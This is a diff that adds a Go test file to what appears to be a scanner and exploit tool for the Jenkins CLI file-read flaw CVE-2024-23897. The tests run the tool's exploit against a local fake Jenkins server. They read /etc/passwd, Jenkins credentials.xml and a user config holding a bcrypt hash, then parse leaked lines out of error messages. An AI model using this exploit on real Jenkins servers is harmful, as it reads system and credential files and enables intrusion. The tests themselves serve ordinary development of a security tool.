@@ -0,0 +1,92 @@
+package scanner
+
+import (
+	"context"
+	"github.com/wjlin0/CVE-2024-23897/pkg/fakejenkins"
+	"github.com/wjlin0/CVE-2024-23897/pkg/input"
+	"github.com/wjlin0/CVE-2024-23897/pkg/output"
+	"github.com/wjlin0/CVE-2024-23897/pkg/types"
+	"testing"
+)
+
+const usersXML = `<?xml version='1.1' encoding='UTF-8'?>
+<hudson.model.UserIdMapper>
+  <version>1</version>
+  <idToDirectoryNameMap class="concurrent-hash-map">
+    <entry>
+      <string>admin</string>
+      <string>admin_6787013171568876279</string>
+    </entry>
+  </idToDirectoryNameMap>
+</hudson.model.UserIdMapper>`
+
+const userConfigXML = `<?xml version='1.1' encoding='UTF-8'?>
+<user>
+  <id>admin</id>
+  <properties>
+    <hudson.security.HudsonPrivateSecurityRealm_-Details>
+      <passwordHash>#jbcrypt:$2a$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy</passwordHash>
+    </hudson.security.HudsonPrivateSecurityRealm_-Details>
+  </properties>
+</user>`
+
+func TestClassifyJenkins(t *testing.T) {
+	files := map[string]string{
+		"/var/jenkins_home/credentials.xml":                            credentialsXML,
+		"/var/jenkins_home/users/users.xml":                            usersXML,
+		"/var/jenkins_home/users/admin_6787013171568876279/config.xml": userConfigXML,
+		"/etc/passwd": fakejenkins.DefaultPasswd,
+	}
+	options := fakejenkins.DefaultOptions()
+	options.Files = files
+	server := fakejenkins.NewServer(options)
+	defer server.Close()
+	s, err := NewScanner(&types.Options{Timeout: 5, MaxChunkRequests: DefaultMaxChunkRequests})
+	if err != nil {
+		t.Fatal(err)
+	}
+	check := &cve202423897Check{scanner: s}
+
+	tests := []struct {
+		file    string
+		finding string
+		details map[string]string
+	}{
+		{file: "/var/jenkins_home/credentials.xml", finding: FindingJenkinsCredentials, details: map[string]string{"credentials": "1", "ids": "deploy", "secrets": "1", "formats": "aes-cbc"}},
+		{file: "/var/jenkins_home/users/users.xml", finding: FindingJenkinsUsers, details: map[string]string{"users": "1", "configs": "/var/jenkins_home/users/admin_6787013171568876279/config.xml"}},
+		{file: "/var/jenkins_home/users/admin_6787013171568876279/config.xml", finding: FindingJenkinsUserConfig, details: map[string]string{"id": "admin", "hash-format": "bcrypt"}},
+		{file: "/etc/passwd"},
+	}
+	for _, test := range tests {
+		result, err := check.Exploit(context.Background(), input.NewTarget(server.URL), &ExploitOptions{Mode: output.ModeReadFile, Command: "reload-job", Args: test.file})
+		if err != nil || result == nil {
+			t.Fatalf("Exploit(%s) = %v, %v", test.file, result, err)
+		}
+		if result.Finding != test.finding {
+			t.Errorf("Exploit(%s) finding = %q, want %q", test.file, result.Finding, test.finding)
+		}
+		for key, want := range test.details {
+			if got := result.Details[key]; got != want {
+				t.Errorf("Exploit(%s) detail %s = %q, want %q", test.file, key, got, want)
+			}
+		}
+	}
+}
+
+func TestLeakedLine(t *testing.T) {
+	tests := []struct {
+		response string
+		want     string
+	}{
+		{response: "root:x:0:0:root:/root:/bin/bash: No such item ?root:x:0:0:root:/root:/bin/bash? exists.\n", want: "root:x:0:0:root:/root:/bin/bash"},
+		{response: "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin: No such agent \"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\" exists.\nroot:x:0:0:root:/root:/bin/ash: No such agent \"root:x:0:0:root:/root:/bin/ash\" exists.\n", want: "root:x:0:0:root:/root:/bin/ash"},
+		{response: "ERROR: No argument is allowed: root:x:0:0:root:/root:/bin/bash\njava -jar jenkins-cli.jar who-am-i\n", want: "root:x:0:0:root:/root:/bin/bash"},
+		{response: "ERROR: No such job root:x:0:0:root:/root:/bin/bash", want: "root:x:0:0:root:/root:/bin/bash"},
+		{response: "ERROR: anonymous is missing the Overall/Read permission"},
+	}
+	for _, test := range tests {
+		if got := leakedLine(test.response); got != test.want {
+			t.Errorf("leakedLine(%q) = %q, want %q", test.response, got, test.want)
+		}
+	}
+}